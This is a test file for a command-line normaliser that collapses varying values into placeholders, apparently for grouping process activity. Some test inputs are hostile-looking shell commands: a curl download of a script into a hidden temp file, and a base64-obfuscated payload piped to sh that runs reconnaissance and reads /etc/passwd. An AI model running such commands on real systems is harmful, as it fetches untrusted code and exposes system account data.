import { expect, test } from 'vitest';
import { commandShape } from './shape.ts';

test.each([
  ['sh -c id', 'sh -c id'],
  ['/usr/bin/file -b /var/www/html/upload-1833.svg', '/usr/bin/file -b /var/www/html/upload-<n>.svg'],
  ['curl -s http://10.0.0.1:8080/x.sh -o /tmp/.x91', 'curl -s <url> -o /tmp/<temp>'],
  ['convert /tmp/phpA81b.png -resize 200x200 /tmp/out', 'convert /tmp/<temp> -resize 200x200 /tmp/out'],
  ['ping -c 3 192.168.7.21', 'ping -c <n> <ip>'],
  ['git show 9fceb02d0ae598e95dc970b74767f19372d61af8', 'git show <hex>'],
  ['psql -c select 1 -d app_2026-11-21', 'psql -c select <n> -d app_<date>'],
  ['backup --since 2026-11-21T20:15:13Z', 'backup --since <date>'],
  ['sh -c echo aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh', 'sh -c echo <base64>|base64 -d|sh'],
  ['run 123e4567-e89b-12d3-a456-426614174000', 'run <uuid>'],
])('%s', (commandLine, shape) => {
  expect(commandShape(commandLine)).toBe(shape);
});

test('commands that differ only in what varies share a shape', () => {
  expect(commandShape('rsvg-convert -o /tmp/a1.png in-7.svg')).toBe(
    commandShape('rsvg-convert -o /tmp/b22.png in-9.svg'),
  );
});

test('an endless command line is read to a bound', () => {
  const shape = commandShape(`sh -c ${'a1b2c3d4'.repeat(100_000)}`);
  expect(shape.length).toBeLessThan(5000);
  expect(shape.endsWith('…')).toBe(true);
});
